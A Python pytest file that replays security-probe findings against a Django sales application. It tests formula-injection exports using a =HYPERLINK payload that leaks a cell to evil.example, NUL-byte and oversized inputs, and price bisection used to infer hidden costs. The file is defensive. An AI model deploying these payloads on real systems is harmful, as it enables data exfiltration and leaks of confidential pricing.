"""The trust probe's findings, each written as the attack it was (one test per finding, or per door of one).

Every test here failed before its fix. Kept together so the next probe starts from what the last one found.
The other findings' replays live beside the code they test:
- password guessing, immortal tokens, tokens surviving a password change or logout, the reset e-mail:
  accounts/tests/test_security_auth.py; the second factor (replay, guessing codes): accounts/tests/test_two_factor.py
- the evaluation's expense allowance giving the cost away: reports/tests/test_evaluation_confidential.py
- someone else's id on any API detail route or page: tests/test_permission_matrix.py
- Redis down: tests/test_degrade.py; /healthz: core/tests/test_health.py
- the production stack: tests/test_compose.py, tests/test_production.py, workspace/tests/test_seed_demo.py
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.exports import safe_cell
from customers.tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the invoice")'


@pytest.fixture(autouse=True)
def english():
    from django.core.cache import cache
    from django.utils import translation

    cache.clear()
    with translation.override("en"):
        yield


def csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(body: bytes) -> list:
    wb = load_workbook(io.BytesIO(body))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
    return [c.value for c in cells]


def assert_inert(values) -> None:
    values = [v for v in values if isinstance(v, str)]
    assert "'" + HOSTILE in values, "the hostile name is exported, as text"
    assert not [v for v in values if v and v[0] in "=+-@\t\r"], "no cell starts a formula"


# --- 1. Spreadsheet formula injection ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+886 2 2700 1234", "'+886 2 2700 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Acme = good", "Acme = good"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell_escapes_formula_starts_and_keeps_numbers(value, expected):
    assert safe_cell(value) == expected


def test_customer_exports_do_not_run_a_hostile_name(client, salesperson):
    CustomerFactory(owner=salesperson, name=HOSTILE, short_name="@evil", phone="")
    client.force_login(salesperson)
    assert_inert(csv_cells(client.get(reverse("customers:export", args=["csv"])).content))
    assert_inert(xlsx_cells(client.get(reverse("customers:export", args=["xlsx"])).content))


def test_customer_filing_xlsx_does_not_run_a_hostile_name(client, manager, salesperson):
    with time_machine.travel(dt.datetime(2026, 2, 3, 10, 0, tzinfo=dt.UTC)):
        customer = CustomerFactory(owner=salesperson, name=HOSTILE, phone="")
        customer.registered_at = timezone.now() - dt.timedelta(days=40)
        customer.save(update_fields=["registered_at"])
        client.force_login(manager)
        url = reverse("customers:filing_export", args=[salesperson.unit_id]) + "?month=2026-01"
        response = client.get(url)
        assert response.status_code == 200
        assert_inert(xlsx_cells(response.content))


def test_contract_csv_does_not_run_a_hostile_customer_name(client, salesperson):
    from sales.tests.factories import ContractFactory

    ContractFactory(customer=CustomerFactory(owner=salesperson, name=HOSTILE, phone=""))
    client.force_login(salesperson)
    response = client.get(reverse("sales:contract_export"))
    assert response.status_code == 200
    assert_inert(csv_cells(b"".join(response.streaming_content)))


def test_product_csv_does_not_run_a_hostile_product_name(client, salesperson):
    from sales.tests.factories import priced_product

    priced_product(name=HOSTILE)
    client.force_login(salesperson)
    response = client.get(reverse("sales:product_export"))
    assert_inert(csv_cells(b"".join(response.streaming_content)))


def test_commission_xlsx_does_not_run_a_hostile_customer_name(client, finance, salesperson):
    from commission.tests.factories import PaymentFactory, sold_contract

    with time_machine.travel(dt.datetime(2026, 3, 5, 9, 0, tzinfo=dt.UTC)):
        contract = sold_contract(owner=salesperson, shipped_on=None)
        contract.customer.short_name = '=HYPERLINK("http://evil.example","x")'
        contract.customer.save(update_fields=["short_name"])
        PaymentFactory(contract=contract, paid_on=dt.date(2026, 1, 20), amount=Decimal("12000.00"))
        client.force_login(finance)
        response = client.get("/commission/export/2026-01.xlsx")
        assert response.status_code == 200
        values = xlsx_cells(response.content)
        assert '\'=HYPERLINK("http://evil.example","x")' in values


def test_report_xlsx_tables_do_not_run_hostile_text():
    from reports.exports import xlsx_response

    response = xlsx_response("x.xlsx", "t", ["name", "amount"], [[HOSTILE, Decimal("-5")]])
    values = xlsx_cells(response.content)
    assert_inert(values)
    assert -5 in values, "a negative number stays a number"


# --- 2. An import that takes the site down -------------------------------------------------------------------


def _upload(name: str, body: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, body)


def _post_import(client, user, name: str, body: bytes):
    client.force_login(user)
    return client.post(reverse("customers:import"), {"file": _upload(name, body)})


def test_import_with_a_nul_byte_is_a_form_error_not_a_500(client, salesperson):
    from customers.models import Customer, ImportBatch

    response = _post_import(client, salesperson, "nul.csv", b"name,phone\nAcme\x00 Ltd,02-2700-1234\n")
    assert response.status_code == 200
    assert "NUL" in str(response.context["form"].errors["file"])
    assert not ImportBatch.objects.exists() and not Customer.objects.exists()


def test_import_over_the_row_limit_is_refused_while_reading(client, salesperson, monkeypatch):
    from customers import imports
    from customers.models import ImportBatch

    monkeypatch.setattr(imports, "MAX_ROWS", 3)
    monkeypatch.setattr(imports, "MAX_PHYSICAL_ROWS", 6)
    body = "name\n" + "".join(f"Company {i}\n" for i in range(4))
    response = _post_import(client, salesperson, "rows.csv", body.encode())
    assert "At most 3 rows" in str(response.context["form"].errors["file"])
    # Blank lines count too: a file of empty rows is refused before the end, not parsed whole.
    response = _post_import(client, salesperson, "blank.csv", b"name\n" + b",\n" * 10)
    assert "At most 3 rows" in str(response.context["form"].errors["file"])
    assert not ImportBatch.objects.exists()


def test_import_over_the_column_limit_is_refused(client, salesperson):
    from customers import imports
    from customers.models import ImportBatch

    wide = ",".join(["name"] + [f"c{i}" for i in range(imports.MAX_COLUMNS)])
    response = _post_import(client, salesperson, "wide.csv", f"{wide}\nAcme\n".encode())
    assert f"At most {imports.MAX_COLUMNS} columns" in str(response.context["form"].errors["file"])
    assert not ImportBatch.objects.exists()


def test_import_over_the_size_limit_is_refused_before_reading(client, salesperson, monkeypatch):
    from customers import imports
    from customers.models import ImportBatch

    monkeypatch.setattr(imports, "MAX_BYTES", 1024)
    with pytest.raises(Exception) as err:
        imports.parse_file(filename="big.csv", content=b"name\n" + b"A" * 2048)
    assert err.value.code == "too_large" and err.value.field == "file"
    response = _post_import(client, salesperson, "big.csv", b"name\n" + b"A" * (11 * 1024 * 1024))
    assert "larger than 10 MB" in str(response.context["form"].errors["file"])
    assert not ImportBatch.objects.exists()


def test_import_apply_runs_as_a_task_and_records_progress_and_report(client, salesperson):
    from customers import tasks
    from customers.imports import import_preview, import_start
    from customers.models import Customer, ImportBatch

    batch = import_preview(actor=salesperson, filename="ok.csv", content=b"name\nTask Import Co\nSecond Co\n")
    import_start(batch_id=batch.pk, actor=salesperson)
    client.force_login(salesperson)
    page = client.get(reverse("customers:import_preview", args=[batch.pk]))
    assert 'id="import-progress"' in page.content.decode() and "hx-get" in page.content.decode()
    assert "HX-Refresh" not in client.get(reverse("customers:import_progress", args=[batch.pk]))
    result = tasks.import_apply(batch.pk)
    batch.refresh_from_db()
    assert result["status"] == ImportBatch.Status.APPLIED == batch.status
    assert batch.progress == 2 and batch.finished_at is not None
    assert [r["result"] for r in batch.report] == ["created", "created"]
    assert Customer.objects.filter(owner=salesperson).count() == 2
    assert client.get(reverse("customers:import_progress", args=[batch.pk]))["HX-Refresh"] == "true"
    tasks.import_apply(batch.pk)  # a redelivered task does nothing twice
    assert Customer.objects.count() == 2


def test_import_apply_page_enqueues_the_task_on_commit(client, salesperson, django_capture_on_commit_callbacks):
    from unittest import mock

    from customers import tasks
    from customers.imports import import_preview
    from customers.models import Customer

    batch = import_preview(actor=salesperson, filename="ok.csv", content=b"name\nQueued Co\n")
    client.force_login(salesperson)
    with mock.patch.object(tasks.import_apply, "delay") as delay:
        with django_capture_on_commit_callbacks(execute=False) as callbacks:
            client.post(reverse("customers:import_apply", args=[batch.pk]))
        assert not delay.called and not Customer.objects.exists(), "nothing is enqueued before the commit"
        for callback in callbacks:
            callback()
    delay.assert_called_once_with(batch.pk)
    tasks.import_apply(*delay.call_args.args)
    assert Customer.objects.get().name == "Queued Co"


# --- 3. One accepted quote becomes any number of contracts ---------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_ten_parallel_contracts_from_one_quote_make_exactly_one(salesperson):
    from sales import services
    from sales.models import Contract
    from sales.services import LineInput
    from sales.tests.factories import priced_product
    from sales.tests.test_concurrency import run_together

    customer = CustomerFactory(owner=salesperson, credit_limit=Decimal("10000000"))
    quote = services.quote_create(
        actor=salesperson,
        customer=customer,
        lines=[LineInput(product=priced_product(standard="1000", cost="100"), quantity=Decimal("2"))],
    )
    quote = services.quote_submit(actor=salesperson, quote=quote)  # within authority: approved at once
    results = run_together(
        *[lambda: services.contract_create_from_quote(actor=salesperson, quote=quote) for _ in range(10)]
    )
    assert sorted(r[0] for r in results) == ["ok"] + ["refused"] * 9
    assert Contract.objects.filter(quote=quote).count() == 1
    refused = next(r[1] for r in results if r[0] == "refused")
    assert refused.field == "quote" and refused.code == "already_contracted"


def test_a_cancelled_contract_frees_its_quote_and_the_database_refuses_a_second_live_one(salesperson):
    from django.db import IntegrityError, transaction

    from sales.models import ContractStatus, Quote
    from sales.tests.factories import ContractFactory

    customer = CustomerFactory(owner=salesperson)
    quote = Quote.objects.create(number="QT-PROBE-1", customer=customer, owner=salesperson, unit=salesperson.unit)
    ContractFactory(customer=customer, quote=quote, status=ContractStatus.CANCELLED)
    ContractFactory(customer=customer, quote=quote)
    with pytest.raises(IntegrityError), transaction.atomic():
        ContractFactory(customer=customer, quote=quote)


# --- 6. A payment dated before signing ------------------------------------------------------------------------


@pytest.fixture
def signed_contract(salesperson, manager):
    from sales import services
    from sales.services import LineInput
    from sales.tests.factories import priced_product

    customer = CustomerFactory(owner=salesperson, credit_limit=Decimal("10000000"))
    contract = services.contract_create(
        actor=salesperson,
        customer=customer,
        lines=[LineInput(product=priced_product(standard="1000", cost="100"), quantity=Decimal("1"))],
    )
    from sales.tests.factories import submit_reviewed

    contract = submit_reviewed(actor=salesperson, contract=contract)  # the department review (契約評審) first
    return services.contract_sign(actor=salesperson, contract=contract)


def test_api_refuses_a_payment_dated_before_signing_naming_paid_on(api_client, finance, signed_contract):
    from sales.models import Payment

    api_client.force_authenticate(finance)
    before = signed_contract.signed_on - dt.timedelta(days=1)
    response = api_client.post(
        "/api/v1/payments/",
        {"contract": signed_contract.pk, "paid_on": str(before), "amount": "100", "kind": "final"},
        format="json",
    )
    assert response.status_code == 400, response.content
    assert "paid_on" in response.json()
    assert not Payment.objects.exists()


def test_page_refuses_a_payment_dated_before_signing(client, finance, signed_contract):
    from sales.models import Payment

    client.force_login(finance)
    before = signed_contract.signed_on - dt.timedelta(days=1)
    response = client.post(
        reverse("sales:contract_action", args=[signed_contract.pk, "pay"]),
        {"paid_on": str(before), "amount": "100", "kind": "final"},
        follow=True,
    )
    assert "before the contract was signed" in response.content.decode()
    assert not Payment.objects.exists()


# --- 8. "Not visible" vs "invalid pk" tells whether an id exists ---------------------------------------------


@pytest.mark.parametrize(
    ("url", "body"),
    [
        ("/api/v1/quotes/", {"lines": []}),
        ("/api/v1/contracts/", {"lines": []}),
        ("/api/v1/contact-logs/", {"kind": "visit"}),
    ],
)
def test_api_answers_an_invisible_customer_exactly_like_a_missing_one(
    api_client, salesperson, other_salesperson, url, body
):
    from customers.models import Customer

    hidden = CustomerFactory(owner=other_salesperson)
    missing = (Customer.objects.order_by("-pk").values_list("pk", flat=True).first() or 0) + 1000
    api_client.force_authenticate(salesperson)
    invisible = api_client.post(url, {**body, "customer": hidden.pk}, format="json")
    absent = api_client.post(url, {**body, "customer": missing}, format="json")
    assert invisible.status_code == absent.status_code == 400
    assert invisible.json()["customer"] == [m.replace(str(missing), str(hidden.pk)) for m in absent.json()["customer"]]


def test_api_answers_an_invisible_contract_exactly_like_a_missing_one(
    api_client, finance, salesperson, other_salesperson
):
    from sales.tests.factories import ContractFactory

    hidden = ContractFactory(customer=CustomerFactory(owner=other_salesperson))
    api_client.force_authenticate(salesperson)
    for url, body in [
        ("/api/v1/shipments/", {"shipped_on": str(timezone.localdate())}),
        ("/api/v1/payments/", {"paid_on": str(timezone.localdate()), "amount": "1"}),
    ]:
        invisible = api_client.post(url, {**body, "contract": hidden.pk}, format="json")
        absent = api_client.post(url, {**body, "contract": hidden.pk + 10_000}, format="json")
        assert (invisible.status_code, invisible.json()) == (absent.status_code, absent.json())


# --- 7. NUL bytes and huge integers in query strings and plans ---------------------------------------------

HOSTILE_PARAMS = [
    "q",
    "status",
    "unit",
    "salesperson",
    "owner",
    "customer",
    "month",
    "year",
    "page",
    "page_size",
    "sort",
    "region",
    "period",
    "start",
    "kind",
    "product",
    "tier",
    "awaiting_me",
    "overdue_filing",
]
HOSTILE_VALUES = ["\x00", "a\x00b", "99999999999999999999", "-99999999999999999999", "2026-13-45"]


def _list_pages() -> list[str]:
    """Every page of the apps that takes no path argument (lists, dashboards, forms), exports left out."""
    from django.urls import get_resolver

    apps = {"customers", "sales", "reports", "commission", "reminders", "workspace"}
    urls = []
    for pattern in get_resolver().url_patterns:
        if getattr(pattern, "namespace", None) in apps:
            for sub in pattern.url_patterns:
                if sub.name and not sub.pattern.regex.groups and "export" not in sub.name:
                    urls.append(reverse(f"{pattern.namespace}:{sub.name}"))
    return sorted(set(urls))


@pytest.mark.parametrize("role", ["salesperson", "gm"])
def test_list_pages_answer_hostile_query_strings_without_a_500(client, request, role):
    client.raise_request_exception = False
    client.force_login(request.getfixturevalue(role))
    failures = []
    pages = _list_pages()
    assert len(pages) > 15
    for url in pages:
        for value in HOSTILE_VALUES:
            response = client.get(url, {p: value for p in HOSTILE_PARAMS})
            if response.status_code >= 500:
                failures.append((url, value, response.status_code))
    assert not failures


def test_plan_with_a_huge_visits_goal_is_a_400_naming_the_field(api_client, client, salesperson):
    from reports.models import Plan

    api_client.force_authenticate(salesperson)
    start = timezone.localdate().replace(day=1)
    body = {"kind": "monthly", "period_start": str(start), "visits_goal": 99_999_999_999}
    response = api_client.post("/api/v1/plans/", body, format="json")
    assert response.status_code == 400 and "visits_goal" in response.json()
    client.force_login(salesperson)
    page = client.post(reverse("reports:plan_new"), {**body, "goals": "", "actions": "", "key_points_next": ""})
    assert page.status_code == 200 and "visits_goal" in page.context["form"].errors
    assert not Plan.objects.exists()


def test_a_nul_byte_in_a_query_string_is_a_400(client, salesperson):
    client.force_login(salesperson)
    assert client.get("/customers/?q=%00").status_code == 400
    assert client.get("/sales/contracts/?q=a%00b").status_code == 400


# --- A manager can reject after approving --------------------------------------------------------------------


def test_a_manager_cannot_reject_a_contract_after_approving_it(salesperson, manager, gm):
    from django.core.exceptions import PermissionDenied

    from core.exceptions import ApplicationError
    from sales import services
    from sales.models import ContractStatus
    from sales.services import LineInput
    from sales.tests.factories import authority, priced_product

    customer = CustomerFactory(owner=salesperson, credit_limit=Decimal("10000000"))
    authority(salesperson, "5")
    contract = services.contract_create(
        actor=salesperson,
        customer=customer,
        lines=[
            LineInput(
                product=priced_product(standard="1000", cost="900"),
                quantity=Decimal("2"),
                discount_percent=Decimal("8"),
            )
        ],
    )
    services.contract_submit(actor=salesperson, contract=contract)
    services.contract_approve(actor=manager, contract=contract)  # the GM office's step is still open
    with pytest.raises((ApplicationError, PermissionDenied)):
        services.contract_reject(actor=manager, contract=contract, reason="changed my mind")
    contract.refresh_from_db()
    assert contract.status == ContractStatus.IN_REVIEW


# --- Cost inference: bisecting the price against the margin rule ----------------------------------------------
# A product costs 700: with the 20 % threshold the margin rule fires below a net price of 875. The probe moved
# the list price of a draft contract and watched every door a salesperson has (the API's `rules` and `actions`,
# the htmx preview, the contract page) for the rule: about 20 requests gave the cost.

BREAK_EVEN = Decimal("875")


def _margin_signal(api_body: dict, preview_html: str, page_html: str) -> bool:
    """Whatever tells the margin rule fired, in any door: its code, a GM-office step, or the words (with or
    without the numbers, as the first fix had them)."""
    import re

    said = re.compile(r"margin[^<]{0,40}below", re.IGNORECASE)
    return (
        any(h["approver"] == "gm_office" or h["code"] == "margin_below_threshold" for h in api_body["rules"])
        or "margin_below" in str(api_body)
        or bool(said.search(str(api_body["rules"])))
        or "GM office" in preview_html
        or bool(said.search(preview_html))
        or bool(said.search(page_html))
    )


def _strip_numbers(text: str) -> str:
    import re

    return re.sub(r"[0-9][0-9,.]*", "#", text)


@pytest.fixture
def probe(api_client, client, salesperson):
    from sales.tests.factories import authority, priced_product

    product = priced_product(standard="1000", cost="700")
    customer = CustomerFactory(owner=salesperson, credit_limit=Decimal("10000000"))
    authority(salesperson, "50")
    api_client.force_authenticate(salesperson)
    client.force_login(salesperson)
    line = {"product": product.pk, "quantity": "1"}
    created = api_client.post("/api/v1/contracts/", {"customer": customer.pk, "lines": [line]}, format="json")
    assert created.status_code == 201, created.content
    contract_id = created.json()["id"]

    def observe(price: Decimal) -> tuple[dict, str, str]:
        body = api_client.patch(
            f"/api/v1/contracts/{contract_id}/", {"lines": [{**line, "list_price": str(price)}]}, format="json"
        )
        assert body.status_code == 200, body.content
        preview = client.post(
            reverse("sales:contract_preview"),
            {
                "customer": customer.pk,
                "basis": "contract",
                "lines-TOTAL_FORMS": "1",
                "lines-INITIAL_FORMS": "0",
                "lines-MIN_NUM_FORMS": "1",
                "lines-MAX_NUM_FORMS": "1000",
                "lines-0-product": product.pk,
                "lines-0-quantity": "1",
                "lines-0-list_price": str(price),
            },
        )
        page = client.get(reverse("sales:contract_detail", args=[contract_id]))
        return body.json(), preview.content.decode(), page.content.decode()

    return observe


def _bisect(observe, steps: int = 20) -> tuple[Decimal, Decimal, int]:
    """The attack: the rule fires below the break-even price; halve [low, high] on what each door says."""
    low, high, fired = Decimal("100"), Decimal("2000"), 0
    for _step in range(steps):
        mid = ((low + high) / 2).quantize(Decimal("0.01"))
        if _margin_signal(*observe(mid)):
            fired += 1
            low = mid
        else:
            high = mid
    return low, high, fired


def test_bisecting_the_price_no_longer_converges_on_the_cost(probe):
    low, high, fired = _bisect(probe)
    assert fired == 0, "no door tells the margin rule fired"
    assert not (low <= BREAK_EVEN <= high), "the interval did not close on the break-even price"
    assert high - low < 1 and low < 200  # it walked to the bottom: nothing was learnt
    # Straddling the break-even price, everything the salesperson sees is the same but for the amounts.
    below, above = probe(BREAK_EVEN - 1), probe(BREAK_EVEN + 1)
    assert [(h["code"], h["approver"]) for h in below[0]["rules"]] == [
        (h["code"], h["approver"]) for h in above[0]["rules"]
    ]
    assert below[0]["actions"] == above[0]["actions"]
    assert _strip_numbers(below[1]) == _strip_numbers(above[1])
    assert "threshold" not in below[1] + below[2] and "20 %" not in below[1] + below[2]


@pytest.fixture
def cost_shown_to_salespeople():
    from sales.models import SalesPolicy

    return SalesPolicy.objects.create(effective_from=dt.date(2000, 1, 1), salespeople_see_cost=True)


def test_with_cost_shown_to_salespeople_the_same_bisection_finds_it(cost_shown_to_salespeople, probe):
    """The control: with the admin's setting on, the rule is visible and 20 requests pin the break-even price
    (so the test above would fail if a door still told)."""
    low, high, fired = _bisect(probe)
    assert fired > 0 and low <= BREAK_EVEN <= high and high - low <= Decimal("0.02")


def test_the_margin_threshold_is_not_published_to_salespeople(api_client, salesperson, manager):
    from sales.models import SalesPolicy

    SalesPolicy.objects.create(effective_from=dt.date(2000, 1, 1), margin_review_percent=Decimal("22"))
    api_client.force_authenticate(salesperson)
    (row,) = api_client.get("/api/v1/sales-policies/").json()["results"]
    assert row["margin_review_percent"] is None and row["prepayment_threshold"] == "100000.00"
    api_client.force_authenticate(manager)
    (row,) = api_client.get("/api/v1/sales-policies/").json()["results"]
    assert row["margin_review_percent"] == "22.00"


def test_each_submission_that_trips_the_hidden_rule_is_logged_for_the_manager(
    api_client, client, salesperson, manager, other_salesperson, django_assert_max_num_queries
):
    from accounts.tests.factories import ManagerFactory
    from sales import services
    from sales.services import LineInput
    from sales.tests.factories import authority, priced_product

    customer = CustomerFactory(owner=salesperson, credit_limit=Decimal("10000000"))
    authority(salesperson, "50")
    product = priced_product(standard="1000", cost="900")  # 10 % margin: the rule fires
    line = LineInput(product=product, quantity=Decimal("1"), discount_percent=Decimal("0"))
    contract = services.contract_create(actor=salesperson, customer=customer, lines=[line])
    services.contract_submit(actor=salesperson, contract=contract)
    clean = services.contract_create(
        actor=salesperson,
        customer=customer,
        lines=[LineInput(product=priced_product(standard="1000", cost="100"), quantity=Decimal("1"))],
    )
    services.contract_submit(actor=salesperson, contract=clean)

    # A contract in review cannot be edited: each further try is a new contract (the last one cancelled).
    first_try = contract
    for step in range(5):
        services.contract_cancel(actor=salesperson, contract=contract, reason="try again")
        price = LineInput(product=product, quantity=Decimal("1"), list_price=Decimal(1100 + step))
        contract = services.contract_create(actor=salesperson, customer=customer, lines=[price])
        services.contract_submit(actor=salesperson, contract=contract)
    api_client.force_authenticate(manager)
    with django_assert_max_num_queries(8):
        rows = api_client.get("/api/v1/hidden-rule-trips/").json()["results"]
    assert len(rows) == 6
    rows = rows[-1:]
    assert [(r["contract"], r["actor"], r["hidden_rules"]) for r in rows] == [
        (first_try.pk, salesperson.pk, ["margin_below_threshold"])
    ]
    client.force_login(manager)
    with django_assert_max_num_queries(12):
        page = client.get(reverse("sales:hidden_rule_trips"))
    assert page.status_code == 200 and contract.number in page.content.decode()
    (count,) = page.context["counts"]
    assert (count["actor_id"], count["tries"], count["contracts"]) == (salesperson.pk, 6, 6)
    assert clean.number not in page.content.decode()
    # Nobody else's manager, and not the salespeople themselves.
    client.force_login(ManagerFactory(unit=other_salesperson.unit))
    assert contract.number not in client.get(reverse("sales:hidden_rule_trips")).content.decode()
    for user in (salesperson, other_salesperson):
        api_client.force_authenticate(user)
        assert api_client.get("/api/v1/hidden-rule-trips/").json()["results"] == []
        client.force_login(user)
        assert client.get(reverse("sales:hidden_rule_trips")).status_code == 403


@pytest.mark.dates
def test_own_commission_statement_carries_no_expense_allowance_parameters(api_client, client, salesperson, finance):
    from commission.tests.factories import ContractCostFactory, ExpenseClaimFactory, PaymentFactory, sold_contract

    contract = sold_contract(owner=salesperson)  # 12,000 sold
    ContractCostFactory(contract=contract, cost=Decimal("9001.00"))  # margin 24.99 %: low-margin allowance 599.80
    ExpenseClaimFactory(contract=contract, amount=Decimal("1500.00"), decided_on=dt.date(2026, 1, 6))
    PaymentFactory(contract=contract, paid_on=dt.date(2026, 1, 20), amount=Decimal("12000.00"))
    secrets = ("599.8", "2,999", "2999", "9001", "9,001", "24.99", "low_margin", "high_margin", "threshold", "20 %")

    api_client.force_authenticate(salesperson)
    st = api_client.get(f"/api/v1/commission-statements/{salesperson.pk}/", {"month": "2026-01"}).json()
    (line,) = [ln for b in st["contracts"] for ln in b["lines"] if ln["component"] == "expense_excess"]
    assert line["amount"] == "-900.20"  # what they are owed stays exact
    assert line["params"] == {"amount": "-900.20"} and line["rule"] == "expense_excess"
    assert not {"margin_threshold", "low_margin_rate", "high_margin_rate"} & set(st["rules"])
    assert not [s for s in secrets if s in str(st)], "an expense-allowance parameter is in the statement"
    rules = api_client.get("/api/v1/commission-rules/").json()["results"]
    assert all(r["expense_low_margin_percent"] is None for r in rules)
    client.force_login(salesperson)
    for url in (f"/commission/statements/{salesperson.pk}/2026-01/", f"/commission/contracts/{contract.pk}/"):
        html = client.get(url).content.decode()
        assert not [s for s in secrets[:6] if s in html], url
        assert "900.20" in html or "contracts" in url

    api_client.force_authenticate(finance)
    st = api_client.get(f"/api/v1/commission-statements/{salesperson.pk}/", {"month": "2026-01"}).json()
    (line,) = [ln for b in st["contracts"] for ln in b["lines"] if ln["component"] == "expense_excess"]
    assert line["params"]["allowance"] == "599.80" and line["rule"] == "expense_low_margin"


# --- Releasing and reclaiming a customer reset its pool clock ------------------------------------------------


@pytest.mark.dates
def test_releasing_and_reclaiming_a_customer_keeps_its_pool_clock(salesperson, teammate, time_machine):
    from customers.models import Customer, PoolPolicy
    from customers.services import customer_claim_from_pool, customer_release, pool_sweep

    t0 = dt.datetime(2026, 1, 1, 9, tzinfo=dt.UTC)
    PoolPolicy.objects.all().delete()
    PoolPolicy.objects.create(effective_from=dt.date(2020, 1, 1), idle_days=30, warning_days=5)
    time_machine.move_to(t0)
    customer = CustomerFactory(owner=salesperson, registered_at=t0, owned_since=t0)
    time_machine.move_to(t0 + dt.timedelta(days=26))
    assert pool_sweep().warned == 1
    # The attack: give it back just before the sweep takes it, and take it again at once.
    customer_release(customer=customer, actor=salesperson, reason="tidying up")
    customer_claim_from_pool(customer_id=customer.pk, actor=salesperson)
    customer.refresh_from_db()
    assert customer.owner == salesperson
    assert customer.owned_since == t0, "the clock goes on from when they first took it"
    assert customer.release_warned_at == t0 + dt.timedelta(days=26), "and the warning stands"
    time_machine.move_to(t0 + dt.timedelta(days=31, hours=1))
    assert pool_sweep().released == 1
    assert Customer.objects.get(pk=customer.pk).owner is None
    # The sweep released it; claiming it back straight away does not start a fresh 30 days either.
    customer_claim_from_pool(customer_id=customer.pk, actor=salesperson)
    customer.refresh_from_db()
    assert customer.owned_since == t0
    # Someone else claiming it from the pool starts their own clock.
    customer_release(customer=customer, actor=salesperson, reason="")
    time_machine.move_to(t0 + dt.timedelta(days=32), tick=False)
    customer_claim_from_pool(customer_id=customer.pk, actor=teammate)
    customer.refresh_from_db()
    assert customer.owner == teammate and customer.owned_since == t0 + dt.timedelta(days=32)
    assert customer.release_warned_at is None


# --- Homoglyphs slip past first-come registration -------------------------------------------------------------

CYRILLIC = {"o": "\u043e", "e": "\u0435", "a": "\u0430"}  # о е а


@pytest.mark.parametrize("letter", ["o", "e", "a"])
def test_a_name_typed_with_a_cyrillic_letter_is_the_same_customer(salesperson, other_salesperson, letter):
    from customers.identity import normalize_name
    from customers.models import Customer, CustomerConflict
    from customers.services import RegistrationRefused, customer_register

    name = "Oceanside Trading Co., Ltd."
    lookalike = name.replace(letter, CYRILLIC[letter], 1)
    assert lookalike != name and normalize_name(lookalike) == normalize_name(name)
    customer_register(actor=salesperson, data={"name": name})
    with pytest.raises(RegistrationRefused):
        customer_register(actor=other_salesperson, data={"name": lookalike})
    assert Customer.objects.count() == 1
    assert CustomerConflict.objects.get().claimed_name == lookalike


def test_all_three_cyrillic_letters_and_mathematical_letters_fold_but_different_names_do_not():
    from customers.identity import normalize_name

    assert normalize_name("\u0410\u0441m\u0435 Trading") == normalize_name("Acme Trading")  # А с е Cyrillic
    assert normalize_name("𝐀𝐜𝐦𝐞 Trading") == normalize_name("Acme Trading")
    assert normalize_name("Acme Trading") != normalize_name("Acne Trading")
    assert normalize_name("台灣積體電路製造股份有限公司") == "台湾积体电路制造"


def test_recomputing_the_keys_reports_new_collisions_instead_of_failing(gm, salesperson, other_salesperson, client):
    import importlib

    from django.apps import apps

    from customers.models import CustomerIdentity, IdentityCollision

    migration = importlib.import_module("customers.migrations.0009_fold_confusables_in_name_keys")
    first = CustomerFactory(owner=salesperson, name="Acme Trading", registered_at=timezone.now() - dt.timedelta(days=9))
    later = CustomerFactory(owner=other_salesperson, name="\u0410cm\u0435 Trading")  # registered under the old keys
    plain = CustomerFactory(owner=other_salesperson, name="B\u0435ta Works")  # folds, collides with nobody
    CustomerIdentity.objects.filter(kind="name").delete()
    CustomerIdentity.objects.bulk_create(
        [
            CustomerIdentity(customer=first, kind="name", key="acmetrading"),
            CustomerIdentity(customer=later, kind="name", key="\u0430cm\u0435trading"),
            CustomerIdentity(customer=plain, kind="name", key="b\u0435taworks"),
        ]
    )
    migration.recompute_name_keys(apps, None)  # does not raise on the unique constraint
    keys = dict(CustomerIdentity.objects.filter(kind="name").values_list("customer_id", "key"))
    assert keys == {first.pk: "acmetrading", later.pk: "\u0430cm\u0435trading", plain.pk: "betaworks"}
    (row,) = IdentityCollision.objects.all()
    assert (row.customer_id, row.holder_id, row.key) == (later.pk, first.pk, "acmetrading")
    migration.recompute_name_keys(apps, None)  # running again adds nothing
    assert IdentityCollision.objects.count() == 1
    # The GM office sees the pair on the conflicts page; a salesperson does not.
    client.force_login(gm)
    html = client.get(reverse("customers:conflicts")).content.decode()
    assert 'id="identity-collisions"' in html and later.name in html
    client.force_login(salesperson)
    assert 'id="identity-collisions"' not in client.get(reverse("customers:conflicts")).content.decode()
